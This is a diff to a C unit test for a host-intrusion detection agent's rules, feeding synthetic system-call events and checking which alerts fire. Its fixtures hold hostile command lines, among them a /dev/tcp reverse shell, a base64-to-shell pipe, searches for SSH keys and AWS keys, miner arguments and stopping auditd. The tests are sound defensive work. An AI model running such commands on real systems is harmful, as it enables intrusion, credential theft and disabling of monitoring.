@@ -3,7 +3,12 @@
 #include "agent/rules/rules_json.h"
 #include "vectors.h"
 
-static const char path[] = TEST_ROOT "/agent/packaging/rules.d/picket_rules.yaml";
+enum { RULES = 91 };
+#define FOLDER TEST_ROOT "/agent/packaging/rules.d/"
+static const char *const paths[] = {
+	FOLDER "picket_rules.yaml",	    FOLDER "picket_rules_credentials.yaml", FOLDER "picket_rules_escape.yaml",
+	FOLDER "picket_rules_network.yaml", FOLDER "picket_rules_tampering.yaml",
+};
 
 #define EXEC "{\"evt.type\":\"execve\",\"evt.num\":7,"
 #define IN_CONTAINER EXEC "\"container.id\":\"0123456789ab\",\"user.uid\":1000,\"proc.tty\":0,\"proc.cwd\":\"/app/\","
@@ -145,6 +150,204 @@ static const struct {
 	{ IN_CONTAINER PROGRAM("/usr/bin/id", "id", "", "java") "}", "" },
 };
 
+/* ---- system calls ---- */
+#define CALL_EVENT(type, where) "{\"evt.type\":\"" type "\",\"evt.num\":7,\"container.id\":\"" where "\","
+#define BY(name, exepath) "\"proc.name\":\"" name "\",\"proc.exepath\":\"" exepath "\",\"proc.pname\":\"x\",\"proc.tty\":0,"
+#define READ_FILE(where, by, file)                                                                  \
+	CALL_EVENT("openat", where) by "\"evt.is_open_read\":true,\"evt.is_open_write\":false,\"fd.num\":3," \
+	"\"evt.rawres\":3,\"fd.typechar\":\"f\",\"evt.arg.flags\":\"O_RDONLY\",\"fd.nameraw\":\"" file "\",\"fd.name\":\"" file "\"}"
+#define WRITE_FILE(where, by, folder, file)                                                         \
+	CALL_EVENT("openat", where) by "\"evt.is_open_read\":false,\"evt.is_open_write\":true,\"fd.num\":3," \
+	"\"evt.rawres\":3,\"fd.typechar\":\"f\",\"evt.arg.flags\":\"O_TRUNC|O_CREAT|O_WRONLY\"," \
+	"\"fd.directory\":\"" folder "\",\"fd.filename\":\"" file "\",\"fd.name\":\"" folder "/" file "\"}"
+#define TWO_PATHS(type, where, by, src, dst)                                                        \
+	CALL_EVENT(type, where) by "\"evt.rawres\":0,\"evt.arg.target\":\"" src "\",\"evt.arg.oldpath\":\"" src "\"," \
+	"\"fs.path.source\":\"" src "\",\"fs.path.target\":\"" dst "\",\"evt.abspath.src\":\"" src \
+	"\",\"evt.abspath.dst\":\"" dst "\"}"
+#define ONE_PATH(type, where, by, file)                                                             \
+	CALL_EVENT(type, where) by "\"evt.rawres\":0,\"fs.path.name\":\"" file "\"}"
+#define CONNECT(where, by, address, port)                                                           \
+	CALL_EVENT("connect", where) by "\"evt.rawres\":-115,\"fd.typechar\":\"4\",\"fd.type\":\"ipv4\"," \
+	"\"fd.l4proto\":\"tcp\",\"fd.sip\":\"" address "\",\"fd.sport\":" port ",\"fd.name\":\"x\"}"
+#define DUP(where, by, to)                                                                          \
+	CALL_EVENT("dup2", where) by "\"evt.rawres\":" to ",\"fd.type\":\"ipv4\",\"fd.name\":\"x\"}"
+#define PLAIN(type, where, by, more) CALL_EVENT(type, where) by more ",\"evt.rawres\":0}"
+#define CAT BY("cat", "/usr/bin/cat")
+#define APP BY("app", "/app/app")
+#define DPKG BY("dpkg", "/usr/bin/dpkg")
+
+static const struct {
+	const char *event, *want;
+} calls[] = {
+	/* password files: by their readers' files, not by what they call themselves */
+	{ READ_FILE("host", CAT, "/etc/shadow"), "Sensitive file read," },
+	{ READ_FILE("01", BY("sshd", "/tmp/x"), "/etc/shadow"), "Sensitive file read," },
+	{ READ_FILE("01", BY("sshd", "/usr/sbin/sshd"), "/etc/shadow"), "" },
+	{ READ_FILE("host", DPKG, "/etc/shadow"), "" },
+	{ READ_FILE("host", BY("login", "/usr/bin/busybox"), "/etc/shadow"), "" },
+	{ READ_FILE("host", BY("cat", "/usr/bin/busybox"), "/etc/shadow"), "Sensitive file read," },
+	{ READ_FILE("01", CAT, "/host/etc/shadow"), "Sensitive file read," },
+	{ READ_FILE("host", CAT, "/etc/passwd"), "" },
+	{ READ_FILE("host", CAT, "/etc/sudoers.d/x"), "Sensitive file read," },
+	{ CALL_EVENT("open", "01") BY("httpd", "/usr/sbin/httpd") "\"evt.is_open_read\":true,\"fd.num\":3,\"proc.duration\":6000000000,"
+	  "\"fd.name\":\"/etc/pam.d/login\"}", "Sensitive file read by a server," },
+	{ CALL_EVENT("open", "01") BY("httpd", "/usr/sbin/httpd") "\"evt.is_open_read\":true,\"fd.num\":3,\"proc.duration\":6000000,"
+	  "\"fd.name\":\"/etc/pam.d/login\"}", "" },
+	{ CALL_EVENT("openat", "01") APP "\"evt.is_open_read\":true,\"fd.num\":-1,\"evt.res\":\"EACCES\","
+	  "\"fd.nameraw\":\"../../../etc/passwd\",\"fd.name\":\"/etc/passwd\"}", "Sensitive file reached by way of parent folders," },
+	{ CALL_EVENT("openat", "01") APP "\"evt.is_open_read\":true,\"fd.num\":3,"
+	  "\"fd.nameraw\":\"../../lib/x\",\"fd.name\":\"/lib/x\"}", "" },
+	/* keys, tokens */
+	{ READ_FILE("host", CAT, "/home/u/.ssh/id_rsa"), "SSH private key read," },
+	{ READ_FILE("host", CAT, "/home/u/.ssh/id_rsa.pub"), "" },
+	{ READ_FILE("host", BY("ssh", "/usr/bin/ssh"), "/home/u/.ssh/id_rsa"), "" },
+	{ READ_FILE("01", CAT, "/home/u/.ssh/known_hosts"), "SSH folder read in a container," },
+	{ READ_FILE("host", CAT, "/home/u/.ssh/known_hosts"), "" },
+	{ READ_FILE("01", CAT, "/root/.aws/credentials"), "Credentials of a service read by hand," },
+	{ READ_FILE("01", APP, "/root/.aws/credentials"), "" },
+	{ READ_FILE("01", CAT, "/run/secrets/kubernetes.io/serviceaccount/..2026/token"),
+	  "Service account token read by hand," },
+	{ READ_FILE("01", APP, "/run/secrets/kubernetes.io/serviceaccount/..2026/token"), "" },
+	{ READ_FILE("01", CAT, "/proc/7/environ"), "Environment of a process read in a container," },
+	{ READ_FILE("host", CAT, "/proc/7/environ"), "" },
+	{ READ_FILE("01", APP, "/proc/7/mem"), "Memory of another process opened in a container," },
+	{ READ_FILE("01", APP, "/srv/mem"), "" },
+	{ CONNECT("01", APP, "169.254.169.254", "80"), "Metadata service of the cloud contacted from a container," },
+	{ CONNECT("host", APP, "169.254.169.254", "80"), "" },
+	/* ways out */
+	{ CALL_EVENT("connect", "01") APP "\"evt.rawres\":0,\"fd.type\":\"unix\",\"fd.name\":\"/var/run/docker.sock\"}",
+	  "Container engine's socket used in a container," },
+	{ CALL_EVENT("connect", "host") APP "\"evt.rawres\":0,\"fd.type\":\"unix\",\"fd.name\":\"/var/run/docker.sock\"}", "" },
+	{ WRITE_FILE("01", APP, "/sys/fs/cgroup/rdma", "release_agent"), "Cgroup release agent written in a container," },
+	{ WRITE_FILE("01", APP, "/proc/sys/kernel", "core_pattern"), "Kernel's helper program changed in a container," },
+	{ WRITE_FILE("host", APP, "/proc/sys/kernel", "core_pattern"), "" },
+	{ READ_FILE("01", APP, "/dev/sda1"), "Disk or memory of the host opened in a container," },
+	{ READ_FILE("01", APP, "/dev/null"), "" },
+	{ PLAIN("mknod", "01", APP, "\"evt.arg.mode\":\"S_IFBLK|S_IRUSR\""), "Device node made in a container," },
+	{ PLAIN("mknod", "01", APP, "\"evt.arg.mode\":\"S_IFIFO|S_IRUSR\""), "" },
+	{ PLAIN("mount", "01", APP, "\"evt.args\":\"x\""), "Mount in a container," },
+	{ PLAIN("mount", "01", BY("runc:[2:INIT]", "memfd:runc_cloned:/proc/self/exe"), "\"evt.args\":\"x\""), "" },
+	{ PLAIN("mount", "01", BY("runc:[2:INIT]", "/tmp/x"), "\"evt.args\":\"x\""), "Mount in a container," },
+	{ PLAIN("chroot", "01", APP, "\"evt.arg.path\":\"/host\""), "Root folder changed to a folder of the host," },
+	{ PLAIN("chroot", "01", APP, "\"evt.arg.path\":\"/var/empty\""), "" },
+	{ WRITE_FILE("01", APP, "/x", "runc"), "Container engine's program overwritten," },
+	{ PLAIN("setns", "01", APP, "\"evt.args\":\"x\""), "Namespace entered from a container," },
+	{ PLAIN("unshare", "01", APP, "\"thread.cap_permitted\":\"CAP_CHOWN\""), "Namespace made in a container," },
+	{ PLAIN("unshare", "01", APP, "\"thread.cap_permitted\":\"CAP_SYS_ADMIN\""), "" },
+	{ PLAIN("finit_module", "01", APP, "\"evt.args\":\"x\""), "Kernel module loaded from a container," },
+	{ PLAIN("finit_module", "host", APP, "\"evt.args\":\"x\""), "" },
+	{ PLAIN("bpf", "01", APP, "\"evt.arg.cmd\":\"BPF_PROG_LOAD\""), "BPF program loaded from a container," },
+	{ PLAIN("bpf", "01", APP, "\"evt.arg.cmd\":\"BPF_MAP_CREATE\""), "" },
+	{ PLAIN("userfaultfd", "host", APP, "\"user.uid\":1000"), "Page faults handled in user space without rights," },
+	{ PLAIN("userfaultfd", "host", APP, "\"user.uid\":0"), "" },
+	{ PLAIN("ptrace", "host", APP, "\"evt.arg.request\":\"PTRACE_ATTACH\""), "Process taken over by ptrace," },
+	{ PLAIN("ptrace", "host", BY("strace", "/usr/bin/strace"), "\"evt.arg.request\":\"PTRACE_SEIZE\""), "" },
+	{ PLAIN("ptrace", "01", BY("strace", "/usr/bin/strace"), "\"evt.arg.request\":\"PTRACE_SEIZE\""),
+	  "Process taken over by ptrace," },
+	{ PLAIN("ptrace", "host", APP, "\"evt.arg.request\":\"PTRACE_TRACEME\""), "Program asks to be traced," },
+	{ PLAIN("process_vm_writev", "host", APP, "\"evt.arg.pid\":\"x\""), "Memory of another process written," },
+	{ PLAIN("io_uring_setup", "01", APP, "\"evt.args\":\"x\""), "io_uring used in a container," },
+	{ PLAIN("io_uring_setup", "01", BY("node", "/usr/bin/node"), "\"evt.args\":\"x\""), "" },
+	{ PLAIN("socket", "01", APP, "\"evt.arg.domain\":\"AF_PACKET\""), "Packet socket in a container," },
+	{ WRITE_FILE("01", APP, "/dev", "hidden"), "File made below /dev in a container," },
+	{ WRITE_FILE("01", APP, "/dev", "null"), "" },
+	/* remote shells, mining */
+	{ DUP("01", APP, "0"), "Input or output of a program tied to a network connection in a container," },
+	{ DUP("01", APP, "5"), "" },
+	{ DUP("01", BY("inetd", "/usr/sbin/inetd"), "0"), "" },
+	{ DUP("host", BY("bash", "/usr/bin/bash"), "0"), "Input or output of a shell tied to a network connection," },
+	{ DUP("host", APP, "0"), "" },
+	{ CONNECT("host", BY("bash", "/usr/bin/bash"), "1.2.3.4", "443"), "Shell or system tool opens a connection," },
+	{ CONNECT("01", APP, "1.2.3.4", "3333"), "Connection to the port of a mining pool," },
+	{ CONNECT("01", APP, "10.2.3.4", "3333"), "" },
+	{ CONNECT("01", BY("ssh", "/usr/bin/ssh"), "1.2.3.4", "443"), "SSH to a port that is not for it," },
+	{ CONNECT("01", APP, "1.2.3.4", "443"), "" },
+	/* ways to come back */
+	{ WRITE_FILE("host", APP, "/etc/cron.d", "x"), "Job for later written," },
+	{ WRITE_FILE("host", DPKG, "/etc/cron.d", "x"), "" },
+	{ TWO_PATHS("rename", "host", APP, "/tmp/x", "/var/spool/cron/crontabs/root"), "Job for later written," },
+	{ TWO_PATHS("rename", "host", BY("crontab", "/usr/bin/crontab"), "/x", "/var/spool/cron/crontabs/root"), "" },
+	{ WRITE_FILE("host", APP, "/etc/systemd/system", "x.service"), "Service unit written," },
+	{ WRITE_FILE("host", BY("systemctl", "/usr/bin/systemctl"), "/etc/systemd/system", "x.service"), "" },
+	{ WRITE_FILE("host", APP, "/etc", "ld.so.preload"), "Library loaded into every program," },
+	{ WRITE_FILE("01", APP, "/root", ".bashrc"), "Start file of a shell changed," },
+	{ WRITE_FILE("host", BY("useradd", "/usr/sbin/useradd"), "/home/x", ".bashrc"), "" },
+	{ WRITE_FILE("host", APP, "/root/.ssh", "authorized_keys"), "Key added to authorized_keys," },
+	{ WRITE_FILE("host", APP, "/lib/security", "pam_x.so"), "Module of PAM written," },
+	{ WRITE_FILE("host", APP, "/etc", "passwd"), "Account file written by an unusual program," },
+	{ TWO_PATHS("rename", "host", BY("useradd", "/usr/sbin/useradd"), "/etc/passwd+", "/etc/passwd"), "" },
+	/* rights, traces */
+	{ PLAIN("fchmodat", "host", APP, "\"evt.arg.mode\":\"S_ISUID|S_IXUSR\""), "Setuid bit set," },
+	{ PLAIN("fchmodat", "host", APP, "\"evt.arg.mode\":\"S_IXUSR\""), "" },
+	{ PLAIN("fchmod", "host", DPKG, "\"evt.arg.mode\":\"S_ISUID\""), "" },
+	{ CALL_EVENT("setuid", "host") "\"evt.rawres\":0,\"evt.arg.uid\":\"root\",\"user.loginuid\":1000,\"proc.tty\":34816}",
+	  "Root by setuid without a program for it," },
+	{ WRITE_FILE("01", APP, "/var/log", "auth.log"), "Log emptied or removed," },
+	{ WRITE_FILE("host", BY("logrotate", "/usr/sbin/logrotate"), "/var/log", "auth.log"), "" },
+	{ WRITE_FILE("host", APP, "/var/log", "app.log"), "" },
+	{ ONE_PATH("unlinkat", "host", APP, "/root/.bash_history"), "Shell history removed," },
+	{ ONE_PATH("unlinkat", "host", APP, "/root/.bash_profile"), "" },
+	{ TWO_PATHS("symlink", "01", APP, "/etc/shadow", "/tmp/x"), "Link to a sensitive file or folder," },
+	{ TWO_PATHS("linkat", "host", APP, "/etc/shadow", "/tmp/x"), "Link to a sensitive file or folder," },
+	{ TWO_PATHS("symlink", "01", APP, "/etc/alternatives/x", "/tmp/x"), "" },
+	{ ONE_PATH("mkdir", "01", APP, "/usr/bin/.x"), "Folder of programs changed in a container," },
+	{ TWO_PATHS("rename", "01", APP, "/usr/bin/ls", "/usr/bin/ls.old"), "Folder of programs changed in a container," },
+	{ ONE_PATH("mkdir", "host", APP, "/usr/bin/.x"), "" },
+	{ WRITE_FILE("01", APP, "/etc/apt/sources.list.d", "x"), "Source of packages changed in a container," },
+	{ TWO_PATHS("mount", "host", APP, "/tmp/x", "/proc/77"), "Process hidden by a mount," },
+	/* picket itself */
+	{ WRITE_FILE("host", APP, "/etc/picket", "agent.yaml"), "Picket's files changed," },
+	{ ONE_PATH("unlink", "host", APP, "/var/lib/picket/agent/key.pem"), "Picket's files changed," },
+	{ WRITE_FILE("host", BY("picket-agent", "/usr/bin/picket-agent"), "/var/lib/picket", "x"), "" },
+	{ PLAIN("kill", "host", APP, "\"evt.arg.pid\":\"picket-agent\",\"evt.arg.sig\":\"SIGKILL\""), "Signal to picket's agent," },
+	{ PLAIN("kill", "host", APP, "\"evt.arg.pid\":\"picket-agent\",\"evt.arg.sig\":\"SIGHUP\""), "" },
+	{ PLAIN("kill", "host", BY("systemd", "/usr/lib/systemd/systemd"), "\"evt.arg.pid\":\"picket-agent\",\"evt.arg.sig\":\"SIGTERM\""), "" },
+	{ PLAIN("process_vm_readv", "host", APP, "\"evt.arg.pid\":\"picket-agent\""), "Picket's agent stopped or looked into," },
+	/* programs */
+	{ ON_HOST PROGRAM("/usr/bin/find", "find", "/ -name id_rsa", "bash") "}", "Search for keys or passwords," },
+	{ ON_HOST PROGRAM("/usr/bin/grep", "grep", "-r AKIA /srv", "bash") "}", "Search for keys or passwords," },
+	{ ON_HOST PROGRAM("/usr/bin/find", "find", "/ -name x", "bash") "}", "" },
+	{ IN_CONTAINER PROGRAM("/usr/bin/kubectl", "kubectl", "get pods", "x") "}", "Engine or cluster client in a container," },
+	{ IN_CONTAINER PROGRAM("/usr/sbin/debugfs", "debugfs", "-V", "x") "}", "Debugger of file systems in a container," },
+	{ IN_CONTAINER "\"container.privileged\":true," PROGRAM("/usr/bin/mount", "mount", "/dev/sda1 /mnt", "x") "}",
+	  "Mount program in a privileged container," },
+	{ EXEC "\"container.id\":\"01\",\"proc.cwd\":\"/sys/fs/cgroup/\"," PROGRAM("/bin/cat", "cat", "x", "x") "}",
+	  "Program started with the cgroup folder as its own," },
+	{ IN_CONTAINER "\"proc.vpid\":1,\"container.mount.dest[/]\":\"/host\"," PROGRAM("/bin/x", "x", "", "x") "}",
+	  "Container started with a folder of the host that is the host," },
+	{ ON_HOST PROGRAM("/usr/bin/bash", "bash", "-c bash -i >& /dev/tcp/1.2.3.4/9 0>&1", "x") "}",
+	  "Remote shell on the command line," },
+	{ ON_HOST PROGRAM("/usr/bin/python3.11", "python3", "-c import socket,os;os.dup2(1,2)", "x") "}",
+	  "Remote shell on the command line," },
+	{ ON_HOST PROGRAM("/usr/bin/python3.11", "python3", "-c import socket", "x") "}", "" },
+	{ ON_HOST PROGRAM("/usr/bin/id", "id", "", "nginx") "}", "Server started a tool to look around or to download," },
+	{ ON_HOST PROGRAM("/usr/bin/ls", "ls", "", "mysqld") "}",
+	  "Server started a tool to look around or to download,Database started another program," },
+	{ ON_HOST PROGRAM("/opt/x", "xmrig", "-o x", "bash") "}", "Miner of a cryptocurrency," },
+	{ ON_HOST PROGRAM("/opt/x", "x", "-o stratum+tcp://x:1", "bash") "}", "Miner of a cryptocurrency," },
+	{ ON_HOST PROGRAM("/opt/x", "chisel", "client x", "bash") "}", "Tunnel or proxy program," },
+	{ IN_CONTAINER PROGRAM("/usr/bin/ssh", "ssh", "-fNR 9:x:22 u@h", "x") "}", "Tunnel or proxy program," },
+	{ IN_CONTAINER PROGRAM("/usr/bin/ssh", "ssh", "u@h", "x") "}", "" },
+	{ IN_CONTAINER PROGRAM("/usr/bin/nmap", "nmap", "-sn x", "x") "}", "Scanner or sniffer in a container," },
+	{ ON_HOST PROGRAM("/usr/bin/nmap", "nmap", "-sn x", "bash") "}", "Scanner on the host," },
+	{ IN_CONTAINER PROGRAM("/usr/bin/scp", "scp", "x", "x") "}", "File copied to or from another machine in a container," },
+	{ IN_CONTAINER PROGRAM("/usr/bin/crontab", "crontab", "-l", "x") "}", "Crontab in a container," },
+	{ ON_HOST PROGRAM("/usr/bin/crontab", "crontab", "-l", "bash") "}", "" },
+	{ ON_HOST "\"proc.env[LD_PRELOAD]\":\"/tmp/x.so\"," PROGRAM("/usr/bin/id", "id", "", "bash") "}",
+	  "Program started with a library of a temporary folder," },
+	{ ON_HOST PROGRAM("/usr/sbin/useradd", "useradd", "x", "bash") "}", "Account made or changed," },
+	{ ON_HOST "\"proc.aexepath\":\"/usr/bin/dpkg\"," PROGRAM("/usr/sbin/useradd", "useradd", "x", "sh") "}", "" },
+	{ ON_HOST "\"user.name\":\"daemon\"," PROGRAM("/bin/login", "login", "", "x") "}", "User of a service works interactively," },
+	{ ON_HOST "\"user.loginuid\":1000," PROGRAM("/usr/bin/pkexec", "pkexec", "", "bash") "}", "Exploit of sudo, pkexec or the loader," },
+	{ ON_HOST PROGRAM("/usr/bin/shred", "shred", "-u x", "bash") "}", "Data removed in bulk," },
+	{ ON_HOST PROGRAM("/usr/bin/bash", "bash", "-c echo x | base64 -d | sh", "x") "}", "Decoded text given to a shell," },
+	{ ON_HOST PROGRAM("/usr/bin/chattr", "chattr", "+i x", "bash") "}", "File made unchangeable," },
+	{ ON_HOST PROGRAM("/usr/bin/systemctl", "systemctl", "stop auditd", "bash") "}", "Protection of the host switched off," },
+	{ ON_HOST PROGRAM("/usr/bin/systemctl", "systemctl", "stop picket-agent", "bash") "}", "Picket's agent stopped or looked into," },
+	{ CALL_EVENT("connect", "01") BY("curl", "/usr/bin/curl") "\"fd.typechar\":\"4\",\"evt.rawres\":0,\"fd.sip\":\"10.96.0.1\","
+	  "\"fd.sip.name\":\"kubernetes.default.svc.cluster.local\"}", "Kubernetes API contacted by a tool in a container," },
+};
+
 struct seen {
 	struct buf names;
 };
@@ -167,30 +370,34 @@ static void run(struct rules *r, const char *event, struct seen *s)
 	assert_int_equal(json_parse(slice_of(event), 1 << 20, &json, NULL), 0);
 	struct rules_source src = rules_json_source(json);
 	buf_reset(&s->names);
-	(void)rules_eval(r, "execve", &src, seen_match, s);
+	(void)rules_eval(r, cJSON_GetStringValue(cJSON_GetObjectItem(json, "evt.type")), &src, seen_match, s);
 }
 
 static void each_rule_fires_on_what_it_is_for_and_on_nothing_else(void **state)
 {
 	CLEANUP(rules_freep) struct rules *r = NULL;
-	const char *const paths[] = { path };
 	struct rules_report report;
 	struct err err = { 0 };
 	struct seen s = { 0 };
+	unsigned bad = 0;
 
 	(void)state;
-	if (rules_load(paths, 1, &r, &report, &err) < 0)
+	if (rules_load(paths, ARRAY_LEN(paths), &r, &report, &err) < 0)
 		fail_msg("%s", err.msg);
 	assert_int_equal(report.warnings, 0);
-	assert_int_equal(rules_count(r), 15);
-	assert_true(rules_wants(r, "execve") && !rules_wants_all(r) && !rules_wants(r, "open"));
+	assert_int_equal(rules_count(r), RULES);
+	assert_true(rules_wants(r, "execve") && rules_wants(r, "open") && !rules_wants_all(r));
+	assert_false(rules_wants(r, "accept") || rules_wants(r, "recvfrom") || rules_wants(r, "procexit"));
 	buf_init(&s.names, 0);
-	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
-		run(r, cases[i].event, &s);
-		if (!slice_is(buf_slice(&s.names), cases[i].want))
-			fail_msg("%s\nraises '%.*s', not '%s'", cases[i].event, SLICE_FMT(buf_slice(&s.names)),
-				 cases[i].want);
+	for (size_t i = 0; i < ARRAY_LEN(cases) + ARRAY_LEN(calls); i++) {
+		const char *event = i < ARRAY_LEN(cases) ? cases[i].event : calls[i - ARRAY_LEN(cases)].event;
+		const char *want = i < ARRAY_LEN(cases) ? cases[i].want : calls[i - ARRAY_LEN(cases)].want;
+
+		run(r, event, &s);
+		if (!slice_is(buf_slice(&s.names), want))
+			print_error("%s\nraises '%.*s', not '%s'\n", event, SLICE_FMT(buf_slice(&s.names)), want), bad++;
 	}
+	assert_int_equal(bad, 0);
 	buf_fini(&s.names);
 	rules_report_fini(&report);
 }
@@ -216,7 +423,7 @@ static void the_allowed_list_speaks_once_it_is_configured(void **state)
 	struct seen s = { 0 };
 
 	(void)state;
-	assert_true(file_read(path, 1 << 20, &text, NULL) >= 0);
+	assert_true(file_read(paths[0], 1 << 20, &text, NULL) >= 0);
 	buf_add_str(&text, own);
 	if (rules_load_text("both", buf_slice(&text), &r, NULL, &err) < 0)
 		fail_msg("%s", err.msg);
